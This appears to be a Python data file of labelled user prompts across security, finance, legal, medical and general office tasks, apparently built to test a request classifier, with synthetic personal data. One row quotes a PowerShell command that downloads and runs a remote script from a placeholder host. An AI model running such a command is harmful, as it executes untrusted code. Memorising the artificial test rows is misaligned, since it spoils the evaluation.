draft s i | write the all-staff note explaining why someone's laptop was isolated this morning, without naming them or causing panic{INCIDENT}
draft s | compose an email to a customer telling them we've reset their account after suspicious logins and how to set a new password safely
draft s | Draft a responsible-disclosure page for our website: scope, how to report, what we promise, no legal threats against good-faith researchers.
summarize s i | give me the 3-line version for the CISO{INCIDENT}
summarize s | short summary for the change board please — what's affected and what's the fix?{ADVISORY}
summarize s c | what happened here, in a sentence or two?{AUTHLOG}
extract s c | list every source IP and the usernames it tried{AUTHLOG}
extract s | Pull the affected versions, fixed versions, CVSS and workaround into JSON.{ADVISORY}
extract s c | Extract the indicators from this email: sender, link domain, anything else we can block.{PHISH}
classify s c | phishing, spam or legit?{PHISH}
classify s | Severity (critical/high/medium/low) for each finding: default admin password on a printer; TLS 1.0 enabled on an internal app; SQL injection on the public login page; missing security.txt
classify s | Put these into STRIDE categories: someone replays a captured session token; an insider edits audit logs; the API leaks stack traces; a bot floods the signup form
sentiment s | How alarmed does the customer sound? "Got a login alert from Brazil at 3am. I've never been to Brazil. Is my account hacked??"
sentiment s i | Team morale after the ransomware drill — read these comments: "exhausting but useful", "felt like we were guessing half the time", "finally know who to call".
translate s | Translate into German for our Berlin office: "Never share your one-time code with anyone, including IT staff."
translate s | en español: "Report suspicious emails using the Phish Alert button. Do not forward them to colleagues."
translate s | what does this Chinese popup on the infected PC say? "您的文件已被加密。支付比特币以恢复访问。"
math s | We block 3.2 million login attempts a day and 0.04% get past the first filter. How many reach MFA each day?
math s => how many combinations ;; math s => how long to brute force at 10 billion guesses a second | A 10-character password from 72 possible characters — how many combinations, and how long to brute force at 10 billion guesses a second?
code s i | Is there anything wrong with this from a security point of view? Fix it if so.{LOGINPHP}
code s | write a bash one-liner that lists users with UID 0 on a linux box
code s | Python script that checks a list of passwords against the HIBP range API using k-anonymity (send only the first 5 SHA-1 chars)
code s | a Sigma rule that fires when powershell.exe is launched with -enc by a Microsoft Office process
code s | Explain what this does and whether it's malicious: powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"
creative s | Slogan for our phishing awareness month — short, a bit funny, must get across 'check the sender before you click'.
creative s | a short story (half a page) for the security newsletter about an employee who nearly falls for a fake invoice, ending with the right thing to do
qa s | what's an SBOM and why are customers suddenly asking for one
qa s | my bank says it will never ask for my PIN but this caller knew my last transactions. how did they know that?
reasoning s m | Our intern's laptop got stolen from a cafe. Disk was encrypted, but he was logged in to Slack and GitHub in the browser. What do we do, in order?
draft s | write a short Slack message telling devs that commits with secrets will now be blocked by a pre-commit hook, and what to do if theirs is blocked
qa s | what's a honeytoken
classify s | True or false positive? EDR flagged "7z.exe compressing C:\Finance\*.xlsx to temp" run by the finance manager at 2pm on a weekday.
"""


GENERAL = r"""
chat g | hi!
chat g | Good morning :) how's your day going?
chat g | thanks, that was exactly what I needed
chat g | cheers mate, sorted now
chat g | You're a lifesaver, seriously.
chat g | ok that's all for today, bye
chat g | are you a real person or a bot?
chat g | what can you actually do? like, can you read PDFs?
chat g | hello? is this thing on
chat g | lol that was a terrible joke but I laughed
chat g | Sorry, I asked that badly. Give me a minute to rephrase.
chat g | thank you so much!! my manager loved the draft 🎉
chat g | do you remember what we talked about yesterday?
chat g | I'm just bored at my desk tbh. talk to me
chat g | happy friday!! any weekend plans? (do bots have weekends)
chat g | nah that's not it. never mind
chat g | hey, quick check - are my chats with you stored anywhere?
chat g | merci beaucoup, c'était parfait !
creative g | Limerick about a CFO who hates spreadsheets but refuses to give them up.
creative g | give me 10 name ideas for our finance team's fantasy football league
creative g | Write a toast for my friend who just passed the bar exam — funny, 1 minute, a bit sentimental at the end.
creative g | team name ideas for the office cybersecurity pub quiz, puns welcome
creative g | a haiku about Monday standups
creative g | Name our new internal wiki. Something friendly, not corporate.
creative g | write a short bedtime story about a dragon who is scared of the dark
creative g | Suggest a tagline for our hospital charity fun run — 5k, fancy dress encouraged.
draft g | Write a cover letter for a bank teller job. I've got 3 years in retail customer service.
draft g | Draft a summary of changes email to the team: we're moving standup to 9:45, demos to Thursday, and retro to every other Friday. Keep it short.
draft g | the office first-aid kit keeps getting emptied - write a friendly message asking people to only take what they need and tell me when it's low
draft g | write an out-of-office: away till the 14th, urgent stuff to Priya in ops
draft g | Rewrite this in more formal English for a client: "hey, we messed up the delivery date, sorry, new one is next tue"
draft g | reply to a recruiter saying thanks but I'm not looking right now, leave the door open
draft g | Can you write a polite email chasing a colleague for the slides they promised on Monday? They've ignored two pings.
summarize g i | bullet the blockers and who owns them{STANDUP}
summarize g | sum up these reviews in one sentence each for good and bad{REVIEWS}
summarize g | Short summary of the plot of Twelve Angry Men for my book club, no spoilers for the ending.
summarize g i | what happened in this incident channel? two lines for the status page{ONCALL}
extract g | Pull the dates, times and venues out of this: "Kick-off Mon 3 June 10:00 in Room 4B; design review Wed 5 June 14:30 online; launch party Fri 7 June 18:00 at The Crown."
extract g i | list the action items with owners as a checklist{RETRO}
extract g | Give me just the product names and prices from: "Acer Swift 14 - 899; Dell XPS 13 - 1,249; Lenovo ThinkPad X1 - 1,410 (refurb: 980)"
classify g | sort these support tickets into bug, feature request or question: "export button does nothing", "can you add dark mode", "how do I change my username", "app crashes on login"
classify g | Which of these emails need a reply today vs can wait vs ignore: newsletter from a vendor, client asking about tomorrow's meeting time, HR reminder about timesheets due Friday
classify g | group the office snacks by healthy / treat: almonds, crisps, bananas, chocolate biscuits, rice cakes, gummy bears
sentiment g | what's the overall vibe in these?{REVIEWS}
sentiment g | Is this Slack message passive-aggressive or am I reading into it? "Per my last three messages, the deck is still missing."
sentiment g | how does the writer feel about the move? "New city, new job, no friends yet. It's exciting, I keep telling myself."
translate g | translate into Korean: "Thanks for hosting us last week, the team really enjoyed the visit."
translate g | What does this say in English?{SPANISH}
translate g | portuguese (brazil) pls: "meeting moved to 3pm, same link"
translate g | Can you translate 'out of office until Monday' into French, German and Italian
qa g | how do I freeze the top row in Excel? it's the invoice tracker and I keep losing the headers
qa g | process vs thread — what's actually different, memory-wise?
qa g | why does my laptop fan go crazy when I have Teams open
qa g | Work-life balance - any evidence that a 4-day week actually works?
qa g | How does Git rebase differ from merge?
qa g | what does "bandwidth" mean when my manager says she doesn't have the bandwidth
qa s | how do vaccines for computers work? my kid asked and I had no idea (antivirus I mean)
reasoning g m | We have two offers for the offsite: a cheap venue 90 minutes away or a pricier one in town. 30 people, one day. Which would you pick and why?
reasoning g m | Should our 6-person team adopt Scrum or keep our lightweight Kanban board? We ship weekly and have lots of interrupts.
reasoning g m | Postgres or MongoDB for a small inventory app with orders, products and suppliers? Explain the trade-offs for our case.
reasoning g m i | Why did the checkout slow down after the deploy, in your own words, and was rolling back the right call?{ONCALL}
math g | 3 pizzas, 8 slices each, 11 people. how many each and how many left over?
math g | If the train leaves at 07:48 and the trip is 2h 37m, when do I arrive?
math g | our survey got 214 responses out of 1,650 invites. response rate?
math g | Average of 17, 23, 41, 8 and 56?
code g i | what's wrong here and how do I fix it?{PYBUG}
code g | bash: rename every .jpeg in a folder to .jpg
code g | Write a SQL query that returns the top 5 customers by number of orders in 2024 from orders(id, customer_id, created_at).
code g | JavaScript function to debounce a search input, 300 ms
code g | regex that matches UK postcodes
code g | Explain what this does: [x for x in range(50) if x % 3 == 0 and x % 5 != 0]
reasoning g i => Why would this pod keep restarting ;; code g i => what do I change in the deployment yaml | Why would this pod keep restarting, and what do I change in the deployment yaml?{K8SLOG}
qa g | what's a good way to learn touch typing as an adult
draft g | write the email inviting everyone to the summer BBQ, 21 June, bring your own drinks, veggie options sorted
"""


PII_ROWS = r"""
draft f r | Please write to the supplier confirming we'll pay the 4,860 deposit by transfer to {IBAN1} this Friday, and ask them to confirm the account holder name.
extract f r | Which bank and country does each of these belong to? {IBAN2} / {IBAN5} / {IBAN10}
qa f r | my card {CARD1} got charged twice for the same hotel night, 212.40 each. how do I get one reversed?
classify f r | Is this a Visa, Mastercard or Amex: {CARD3}
draft f r | Write a note to accounts: refund the 89.00 to the customer's card ending in the number below, not to a voucher. Card: {CARD2}
summarize f r | Summarise this payment instruction for the approver: "Pay 12,300 EUR to Atelier Roux SARL, IBAN {IBAN3}, ref PO-55102, before 15/11. Approved by <<PERSON:Camille Laurent>>."
sentiment f c | How upset is this customer? "This is <<PERSON:Derek Obi>>, I've called three times about my overcharged bill. My number is <<PHONE:+1 (415) 555-0172>>. I'm not calling again."
extract f r | get the name, card and expiry out of this order note: "Name on card: <<PERSON:Yusuf Demir>> / {CARD5} / exp 09/27"
reasoning f m r | A new 'supplier' emailed changing their bank details to {IBAN6}, saying their old bank is closing. We pay them 30k a month. What checks before we update anything?
qa f r | why does my bank keep asking me to confirm {IBAN4} when I pay my rent, is something wrong with it?
draft f r | Draft a direct debit mandate confirmation for <<PERSON:Ingrid Solberg>>, account {IBAN11}, monthly 45 NOK gym fee starting 1 February.
math f r | Card {CARD7} was charged 3 x 49.99 and refunded 1 x 49.99. Net charge?
translate f r | into german: "Please transfer the remaining 2,150 CHF to {IBAN7} by the end of the month."
qa l r | Can my employer ask for my SSN <<US_SSN:412-67-3098>> on a job application form before they've made an offer?
draft l r | Write a cover note to the immigration lawyer enclosing my details: <<PERSON:Tan Mei Ling>>, NRIC {NRIC1}, email <<EMAIL:meiling.tan@bank.sg>>, phone <<PHONE:+65 9123 8841>>.
extract l c | Pull all contact details from this signature block: "<<PERSON:Olusegun Bakare>> | Senior Associate, Harrow & Finch LLP | <<PHONE:+44 20 7946 0018>> | <<EMAIL:o.bakare@harrowfinch.co.uk>>"
classify l r | what kind of ID is {NRIC3} — citizen, PR or foreigner?
reasoning l m c | A former employee, <<PERSON:Gemma Doyle>> (<<EMAIL:gemma.doyle77@gmail.com>>), wants all emails that mention her. Do we have to search personal inboxes too, and how long do we have?
summarize m c | Summarise for the referral: <<PERSON:Anil Mehta>>, DOB 14/02/1961, tel <<PHONE:07911 483920>>. 2-week history of painless jaundice, weight loss 5 kg, dark urine. Bilirubin 148. US: dilated CBD.
draft m c | Write the appointment reminder text to <<PHONE:+61 412 557 031>> for <<PERSON:Chloe Nguyen>>, physio Tuesday 10:30, bring your scan report.
extract m r | Pull the patient identifiers only (name, ID, phone): "Pt <<PERSON:Lim Boon Kiat>>, NRIC {NRIC2}, HP <<PHONE:+65 8234 1190>>, presenting with chest pain 2h."
classify m c | urgent or routine? from <<EMAIL:gary.whitlock@outlook.com>>: "Hi doc, my left calf has been swollen and hot since yesterday's long flight. Can I wait till next week?"
qa m r | Our clinic form asks for the patient's SSN, e.g. <<US_SSN:531-22-8104>>. Do we actually need it for billing Medicare?
translate m c | Translate to Spanish for the family: "<<PERSON:Rosa Delgado>> is stable after surgery. You can call the ward on <<PHONE:+1-212-555-0147>> after 8am."
sentiment m c | how is <<PERSON:Kwame Mensah>> coping, from his message: "Third week of chemo. Tired all the time, but my kids keep me going. Some days are harder than I let on."
extract s c | List the IPs and which one is IPv6: "blocked <<IP_ADDRESS:185.220.101.47>>, <<IP_ADDRESS:2001:db8:ac10:fe01::7>>, allowed <<IP_ADDRESS:10.40.2.15>>"
reasoning s m c | Login for <<EMAIL:r.fontaine@acme-corp.io>> from <<IP_ADDRESS:102.89.33.140>> (Lagos) 20 minutes after one from <<IP_ADDRESS:81.2.69.160>> (London). Impossible travel or VPN? How would you decide?
draft s r | Write the ticket for the fraud team: customer says card {CARD4} was used for three online purchases she didn't make, last one 02:14 today. Her number is <<PHONE:+44 7700 900412>>.
classify s c | Is the traffic from <<IP_ADDRESS:fe80::9c1a:4bff:fe21:7d03>> internal or external?
qa s c | why does our firewall show <<IP_ADDRESS:2a02:26f0:fd::5c7b:92e>> talking to the payroll server every night?
code s c | write an nginx rule to deny <<IP_ADDRESS:45.95.147.236>> and <<IP_ADDRESS:2607:f8b0:4005:80a::200e>> on the admin path
summarize s r | tl;dr of this alert for the on-call channel: "DLP: user <<EMAIL:hkim@contoso.org>> uploaded payroll.xlsx containing 214 values matching SSN pattern incl. <<US_SSN:219-44-7315>> to personal Dropbox from <<IP_ADDRESS:172.16.8.44>>."
qa g c | Can I put my mobile <<PHONE:+49 151 23456789>> in my email signature or is that unprofessional?
draft g c | Reply to <<PERSON:Julia Bergström>> (<<EMAIL:julia.bergstrom@contoso.org>>) confirming the venue for Thursday's workshop is moved to the 3rd floor.
chat g c | hi, I'm <<PERSON:Arjun Iyer>>, just joined the platform team!
translate g c | French please: "Contact <<PERSON:Thomas Girard>> on <<PHONE:+33 6 12 84 57 30>> for the keys."
extract g c | make a contact list (name, email, phone) from: "<<PERSON:Sofia Rossi>> <<EMAIL:sofia.rossi@mail.co.uk>> <<PHONE:020 7946 0321>>; <<PERSON:Ben Carter>> <<EMAIL:bcarter+events@example.com>> <<PHONE:+1 646 555 0199>>"
draft f r | Write the remittance advice: 7,250.00 paid to Norrland Consulting AB, IBAN {IBAN12}, invoice 2024-118, value date 30/09.
qa f r | I typed my amex {CARD8} into a site that then went blank. Should I cancel it?
extract l r | From the form, list the person's name, SSN and date of signing: "Applicant: <<PERSON:Marcus Reyes>> SSN <<US_SSN:372-41-5590>> Signed 2024-03-18"
qa s r | a user pasted their card number {CARD9} into our support chat. do we need to report that under PCI?
classify f r | Domestic or international payment? from our DE account to {IBAN8}
reasoning f m r | Mrs <<PERSON:Aoife Brennan>> wants her 2,000 refund to {IBAN9} instead of the card {CARD6} she paid with. Is there any risk in agreeing?
extract s r | Pull identifiers for the breach register: employee NRIC {NRIC4}, IP <<IP_ADDRESS:203.0.113.77>>, email <<EMAIL:wei.tan@bank.sg>>
draft m r | Write a note to records: patient <<PERSON:Siti Rahman>>, NRIC {NRIC5}, has asked for a copy of her full medical record; confirm the fee and timeline.
"""
PII_MORE = r"""
extract m r | From this intake form, pull name, SSN, phone and allergies: "Patient: <<PERSON:Dolores Whitaker>>  SSN: <<US_SSN:604 38 2217>>  Cell: <<PHONE:(503) 555-0186>>  Allergies: penicillin (hives), latex"
qa f r | The W-9 asks for my SSN and I wrote <<US_SSN:488-19-6032>>, but the client now wants it again by email. Is it normal to send it like that?
draft g c | Write a welcome message for our new Bangalore hire <<PERSON:Kavya Raghunathan>> — her number is <<PHONE:+91 98450 12345>> if anyone wants to add her to WhatsApp.
classify s c | Which of these logins are from our VPN range: <<IP_ADDRESS:2001:db8:10::4a>>, <<IP_ADDRESS:203.0.113.9>>, <<IP_ADDRESS:10.8.0.23>>?
translate g c | Japanese please: "Please call <<PERSON:Kenji Watanabe>> at <<PHONE:+81 3-5550-1234>> to confirm the booking."
"""


HARD = r"""
!qa g | Is order #20931-4471 the one that shipped on 2024-05-02 or the replacement?
!extract f i | Get the invoice numbers and totals: "INV-2024-00417 total 3,208.50; INV-2024-00418 total 11,760.00; credit note CN-0093 -450.00"
!classify g | which of these are ticket ids and which are order numbers: INC0091773, 1002-338-4471, JIRA-8821, #55120934
!qa g | we're on 4.2.0.17 and the release notes mention 4.2.0.9 — is 17 newer than 9 here or is it sorted like text?
!code g | regex that matches version strings like 4.2.0.17 or 10.11.3 but not dates like 2024.05.01
!reasoning f m | The payment file was rejected with "invalid IBAN" for {BADIBAN1}. Typo or something worse? How would you check before resubmitting?
!qa f | Is {BADCARD1} a real card number? It's printed on the back of a gift voucher.
!math f => What's the total ;; math f => what's 15% off that | Order 88120044 came to 1,284.60 and order 88120051 to 973.15. What's the total, and what's 15% off that?
!classify f | This 16-digit number {BADCARD2} is in the "reference" column of a bank export — card number or not?
!summarize g i | One line for the changelog: v3.14.0 adds CSV export, v3.14.1 fixes the timezone bug, build 20240611.3 was rolled back.
!extract g | List the tracking numbers and delivery dates: "1Z 8A4 7E9 03 1182 4471 due 12/06; JD014600006281934712 due 14/06"
!qa f | our ERP flags {BADIBAN2} as invalid but the supplier swears it's right. what does the check digit actually check?
!draft g | Write a short note to facilities: desk asset tag 0044-1182-9930-2215 is broken, please replace before 01/07.
!math g | Build 20240611.3 took 41m 05s, build 20240611.4 took 33m 40s. How much faster in percent?
!sentiment g | Customer on ticket #448213: "Order 7712-9930-1184 arrived late AGAIN. Third time." — tone?
!extract l | Pull the case references and hearing dates: "Claim no. K20CL418 listed 14.10.2024; appeal ref CA-2023-001877 listed 03/02/2025"
!qa m | Batch 24B117-03 of the flu vaccine says EXP 2025-03-31. Can we still use it on 31 March itself?
!math m | Lot 5521-0098-4410-7263 has 2,400 vials and 2.5% failed inspection. How many are usable?
!classify s | Is this a password hash or a random id? 5f4dcc3b5aa765d61d8327deb882cf99 — it's in a column called legacy_ref.
!extract s | List the CVE ids and fixed versions: "CVE-2024-3094 fixed in 5.6.2; CVE-2023-44487 mitigated in 2.4.58; CVE-2024-6387 fixed in 9.8p1"
!qa s | the scanner says firmware 7.2.3.1042 is vulnerable but the advisory says fixed in 7.2.4. is 7.2.3.1042 below 7.2.4?
!translate g | In German please: "Your order no. 300-4471-9920 will be delivered on 18 June between 08:00 and 12:00."
!reasoning f m | Two invoices, INV-77102 for 4,999.00 dated 03/05 and INV-77120 for 4,999.00 dated 05/05, same supplier, same description. Duplicate or legit? What would you check?
!classify g | Sort into date, amount or id: 2024-11-30, EUR 12.450,00, PO 4500128834, 30/11/24, $1,204,330.17, SKU 7710-2245-0913
!extract f | What's the IBAN country and bank code in {BADIBAN3}? The checksum is off but I just need the bank.
!qa g | Is {BADNRIC1} a valid NRIC? It's printed on a sample form as a placeholder.
!code f | write a Python check that rejects 16-digit numbers failing Luhn so that order ids like {BADCARD3} stop triggering our card filter
!summarize f i | Summarise: PO 4500938821 approved 12/03 for 28,400.00; GRN 5000112 received 19/03; invoice 9100044 matched, due 18/04.
!qa g | how do I read a serial like SN-4471-0029-1183-X? which part is the year?
!math f | Total these amounts: 1.204,50 EUR; 3.110,00 EUR; 899,99 EUR; 12.000,00 EUR
!draft f | Reply to the supplier: we've received credit note CN-2024-0312 for 640.00 against INV-2024-0288 and will offset it in the 30/06 payment run.
!classify f | Valid IBAN or not? {BADIBAN4} — the last bank rejected it.
"""


MULTI = r"""
chat g => hi there! ;; summarize l => can you summarise this clause for me ;; reasoning l m => tell me if it's any good for the tenant | hi there! can you summarise this clause for me and tell me if it's any good for the tenant?{LEASE}
qa f => what's a bridging loan ;; reasoning f m => would one make sense if our buyer pulls out | what's a bridging loan? and would one make sense if our buyer pulls out two weeks before we complete on the new place?
summarize m c => summarise the discharge letter ;; extract m c => list the meds he's going home on ;; draft m c => draft a note to his GP about the inhaler review | summarise the discharge letter, list the meds he's going home on, and draft a note to his GP about the inhaler review{DISCHARGE}
classify s c => Is this phishing ;; draft s c => write the warning to staff | Is this phishing? and if it is, write the warning to staff, short{PHISH}
chat g => Morning! ;; code g i => can you fix this ;; qa g => what's the cleanest way to handle empty lists in Python generally | Morning! Hope you're well. First, can you fix this. Second, what's the cleanest way to handle empty lists in Python generally?{PYBUG}
extract f i => pull the amounts and due dates ;; math f i => work out how much we save if we take the early-payment discount ;; draft f i => draft a reply confirming we'll pay INV-88301 by the 20th | pull the amounts and due dates, work out how much we save if we take the early-payment discount, and draft a reply confirming we'll pay INV-88301 by the 20th{SUPPLIER}
sentiment g => How do customers feel overall ;; classify g => tag each review as product, delivery or service | How do customers feel overall? also tag each review as product, delivery or service.{REVIEWS}
translate l => translate this clause into English ;; qa l => is a three-month notice period normal in Germany | translate this clause into English, and is a three-month notice period normal in Germany?{GERCLAUSE}
summarize s c => what happened here ;; classify s c => was the root attempt successful ;; code s => give me a fail2ban config that would have stopped it | what happened here? was the root attempt successful? and give me a fail2ban config that would have stopped it{AUTHLOG}
qa m => what is co-amoxiclav ;; qa m => why would they switch him to doxycycline | what is co-amoxiclav and why would they switch him to doxycycline? just curious, my dad was given both
draft g => write a short message to the team saying the offsite is confirmed for 12 Sept ;; creative g => suggest three fun icebreakers for it | write a short message to the team saying the offsite is confirmed for 12 Sept. also suggest three fun icebreakers for it
math f => how much is 18% tip on 146.80 ;; math f => what's each share if we split it 5 ways | how much is 18% tip on 146.80, and what's each share if we split it 5 ways?
reasoning l m => can they actually deduct the cleaning fee ;; draft l => draft my reply to the letting agent | My deposit is 1,800 and the agent wants 350 for "professional cleaning" even though I had it cleaned. can they actually deduct the cleaning fee, and if not, draft my reply to the letting agent
chat g => thanks for the earlier help ;; sentiment m => how does this patient sound ;; draft m => write a reassuring reply | thanks for the earlier help! next one - how does this patient sound, and write a reassuring reply: "Got my biopsy results letter but it just says 'please book an appointment'. Is that bad news? I can't sleep."
extract s => List the affected versions ;; reasoning s m => tell me if we need an emergency change tonight | List the affected versions and tell me if we need an emergency change tonight. We run 7.1.8 on the two internet-facing boxes.{ADVISORY}
code f => write a SQL query for total spend per cost centre last quarter ;; qa f => what's the difference between a cost centre and a profit centre anyway | write a SQL query for total spend per cost centre last quarter (tables: expenses(id, cost_centre, amount, spent_on)). what's the difference between a cost centre and a profit centre anyway?
summarize g i => Sum up the retro ;; draft g i => write the follow-up email with owners | Sum up the retro in three bullets. Then write the follow-up email with owners.{RETRO}
qa s => what's a supply chain attack ;; reasoning s m => should we worry about the npm packages we pull in | what's a supply chain attack, and should we worry about the npm packages we pull in? we have ~1,400 transitive deps
translate m => translate it into French ;; summarize m => give me a one-line English version for the notes | translate it into French and give me a one-line English version for the notes: "Patient advised to rest, increase fluids, and return if the rash spreads or fever exceeds 39°C."
chat g => hey ;; math g => how many working days between 3 June and 19 July ;; draft g => write my leave request for that period | hey :) how many working days between 3 June and 19 July (UK, one bank holiday in there)? and write my leave request for that period
classify l => which of these clauses favour the landlord ;; draft l => suggest fairer wording for the worst one | which of these clauses favour the landlord? and suggest fairer wording for the worst one{TENANCY}
reasoning f m => Should I pay off my 3.9% student loan early or invest ;; math f => how much would I have after 10 years investing 300 a month at 6% | Should I pay off my 3.9% student loan early or invest? Also, how much would I have after 10 years investing 300 a month at 6%?
extract m c => list what she's taking ;; reasoning m m c => is clarithromycin OK with warfarin ;; draft m c => draft a message to the urgent care doctor | list what she's taking, is clarithromycin OK with warfarin, and if not draft a message to the urgent care doctor{MEDLIST}
code s i => review this login code ;; qa s => explain what SQL injection is to a junior dev | review this login code and explain what SQL injection is to a junior dev in two or three sentences{LOGINPHP}
draft f => Write an email to the bank asking them to waive the 25 late fee ;; translate f => then the same thing in Italian | Write an email to the bank asking them to waive the 25 late fee, it was their app that failed. then the same thing in Italian for my dad's account
chat g => Hello! ;; qa g => how do I share my calendar with someone outside the company in Outlook | Hello! how do I share my calendar with someone outside the company in Outlook?
qa g => what's a good free tool for making diagrams ;; code g => write me mermaid syntax for a simple login flow | what's a good free tool for making diagrams? and write me mermaid syntax for a simple login flow: user -> form -> check -> dashboard or error
summarize l => summarise the sub-processor clause ;; reasoning l m => is 30 days' notice enough for us to object properly | summarise the sub-processor clause. is 30 days' notice enough for us to object properly if we have a 6-week procurement cycle?{DPA}
sentiment l c => how angry does he sound ;; draft l c => write a calm response acknowledging the appeal | Got this from a staff member after his redundancy letter: "This is a stitch-up and everyone knows it. I'll see you at tribunal." how angry does he sound, and write a calm response acknowledging the appeal
math m => what's the daily dose for a 24 kg child at 40 mg/kg/day ;; math m => how many ml of 250 mg/5 ml is each dose if split three times a day | what's the daily dose for a 24 kg child at 40 mg/kg/day of amoxicillin, and how many ml of 250 mg/5 ml is each dose if split three times a day?
draft s => write an incident update for customers ;; translate s => give me the same in German | write an incident update for customers: login was unavailable for 40 minutes, no data accessed, passwords don't need changing. give me the same in German
classify f => Sort these into fixed and variable costs ;; math f => what's the total of the fixed ones | Sort these into fixed and variable costs: rent 2,400, packaging 0.80/unit, salaries 18,000, card fees 1.4%, insurance 310. what's the total of the fixed ones?
chat g => Thanks!! ;; creative g => give me a fun name for the Slack channel | Thanks!! That plan is great. Now give me a fun name for the Slack channel where we'll coordinate it
qa m => what's the difference between a cold and flu ;; reasoning m m => should I go into work with a fever of 38 | what's the difference between a cold and flu, and should I go into work with a fever of 38? I feel ok-ish apart from aches
extract s i => extract the timeline into a table ;; summarize s i => then a one-line summary for the board ;; reasoning s m i => and tell me what we should have done faster | extract the timeline into a table (time, event, who), then a one-line summary for the board, and tell me what we should have done faster{INCIDENT}
code g => write a Python script that renames files by their creation date ;; qa g => does that work the same on Mac and Windows | write a Python script that renames files by their creation date. does that work the same on Mac and Windows?
reasoning f m i => which cuts would you challenge ;; draft f i => draft a note to the CMO asking about the events increase | Looking at this budget, which cuts would you challenge? and draft a note to the CMO asking about the events increase{BUDGET}
qa l => what's the difference between mediation and arbitration ;; reasoning l m => which would suit a 20k dispute with a supplier | what's the difference between mediation and arbitration, and which would suit a 20k dispute with a supplier we still want to work with?
translate g => translate the email ;; draft g => write a reply in Spanish accepting the discount | translate the email, then write a reply in Spanish accepting the discount and asking for the new delivery date{SPANISH}
sentiment s => does the user seem panicked ;; draft s => write the helpdesk reply | does the user seem panicked? write the helpdesk reply too: "I think I clicked the DocuSign link in that email and typed my password. Now I see emails I didn't send in my sent folder!!"
qa f => How do ISAs work ;; math f => how much tax would I save on 20k earning 4.5% as a higher-rate taxpayer | How do ISAs work? And how much tax would I save on 20k earning 4.5% as a higher-rate taxpayer?
summarize m => summarise the trial ;; reasoning m m => should our ward change its mobilisation protocol based on this | summarise the trial, and should our ward change its mobilisation protocol based on this?{TRIAL}
chat g => good evening ;; translate g => how do you say 'see you tomorrow' in Hindi | good evening. how do you say 'see you tomorrow' in Hindi?
classify s => Which of these are real risks ;; draft s => write a one-pager for the team on the top two | Which of these are real risks for a 20-person startup: nation-state attacks, phishing, lost laptops, insider sabotage, unpatched VPN? write a one-pager for the team on the top two
creative g => Write a short poem for Dev's leaving card ;; draft g => a two-line message from the team to go with it | Write a short poem for Dev's leaving card (5 years, loves cycling, terrible puns). Also a two-line message from the team to go with it
extract l c => pull the key dates from this letter ;; qa l => do I have a right to appeal redundancy even if the process was followed | pull the key dates from this letter. do I have a right to appeal redundancy even if the process was followed?{TERMLETTER}
code g => Write a bash script that backs up /var/www nightly ;; code g => the cron line to run it at 2am | Write a bash script that backs up /var/www nightly and keeps 7 days, and the cron line to run it at 2am
reasoning g m => should we do the launch on Monday with the flaky test ;; draft g i => write the update to stakeholders | Given the standup, should we do the launch on Monday with the flaky test still open? write the update to stakeholders either way{STANDUP}
qa m => does ibuprofen raise blood pressure ;; reasoning m m => is it OK for me to take it for a week with my knee | does ibuprofen raise blood pressure? I'm on ramipril. is it OK for me to take it for a week with my knee
math f => what's the VAT on 2,340 at 20% ;; draft f => write the invoice line descriptions | what's the VAT on 2,340 at 20%, and write the invoice line descriptions for 3 days of workshop facilitation and travel
qa s => How does a password manager keep my passwords safe ;; reasoning s m => is storing everything in one place a bad idea | How does a password manager keep my passwords safe if it's all in the cloud? and is storing everything in one place a bad idea?
chat g => hiya ;; summarize g => can you shorten this to a tweet | hiya! can you shorten this to a tweet: "After 14 months of work we're proud to launch our new mobile app, rebuilt from scratch with offline mode, faster search and a completely redesigned checkout. Download it today."
translate l => Translate to English ;; extract l => list the obligations on the seller | Translate to English and list the obligations on the seller: "Le vendeur s'engage à livrer la marchandise dans un délai de 30 jours et à garantir l'absence de vices cachés pendant deux ans."
classify m => sort these patients by priority ;; draft m => write the handover for the most urgent one | sort these patients by priority - bed 3 post-op day 1, sats 91% and rising RR; bed 7 awaiting discharge letter; bed 9 new confusion, temp 38.6 - and write the handover for the most urgent one
summarize f c => what's the bottom line on this payslip ;; qa f => why is there a student loan deduction when I've finished uni | what's the bottom line on this payslip, and why is there a student loan deduction when I've finished uni?{PAYSLIP}
code s => write a Python script that flags logins from new countries ;; reasoning s m => what false positives would you expect | write a Python script that flags logins from new countries for each user from a CSV (user, ts, country). what false positives would you expect?
draft l => Draft a short NDA cover email ;; summarize l i => summarise the non-solicit part in one sentence | Draft a short NDA cover email to the supplier. Also summarise the non-solicit part in one sentence for our hiring manager.{NDA}
sentiment g => how does she feel about the reorg ;; reasoning g m => how should I approach my 1:1 with her | "Honestly I'll believe it when I see it. Last reorg was supposed to fix this too." - how does she feel about the reorg, and how should I approach my 1:1 with her?
math g => what's 15% of 2,840 ;; math g => and what's 2,840 minus that | what's 15% of 2,840 and what's 2,840 minus that
creative s => write a limerick about phishing for the intranet ;; qa s => what's the single best tip to spot a phishing email | write a limerick about phishing for the intranet, and what's the single best tip to spot a phishing email?
reasoning m m => Is it worth paying privately for the MRI ;; qa m => what does an MRI show that an X-ray doesn't | Is it worth paying privately for the MRI or waiting 14 weeks on the NHS for my knee? what does an MRI show that an X-ray doesn't?
extract f => pull the fees ;; reasoning f m => tell me which account is cheaper for me | pull the fees and tell me which account is cheaper for me (I spend ~300/month abroad): "Account A: 0 monthly, 2.99% foreign fee. Account B: 7/month, no foreign fee."
chat g => Hey, thanks for yesterday ;; code g i => now the pod keeps dying, what do I change | Hey, thanks for yesterday. now the pod keeps dying, what do I change?{K8SLOG}
qa l => What's the minimum notice an employer has to give ;; draft l => write my resignation letter with 4 weeks' notice | What's the minimum notice an employer has to give after 5 years' service? and write my resignation letter with 4 weeks' notice, leaving on good terms
classify s i => rate each answer as acceptable or a red flag ;; draft s i => draft follow-up questions for the red flags | rate each answer as acceptable or a red flag, and draft follow-up questions for the red flags{VENDORQ}
translate m => Translate the leaflet line into Urdu ;; qa m => what does 'take on an empty stomach' mean exactly | Translate the leaflet line into Urdu: "Take on an empty stomach, 30 minutes before breakfast." and what does 'take on an empty stomach' mean exactly?
qa g => How do I make a pivot table ;; code g => give me the formula to count unique names in column A | How do I make a pivot table in Google Sheets? And give me the formula to count unique names in column A
draft f => draft the price increase email to customers ;; sentiment f => tell me how this customer will probably take it | draft the price increase email to customers (+6% from March, first in 3 years), then tell me how this customer will probably take it: "We're already stretched thin, any increase is going to hurt."
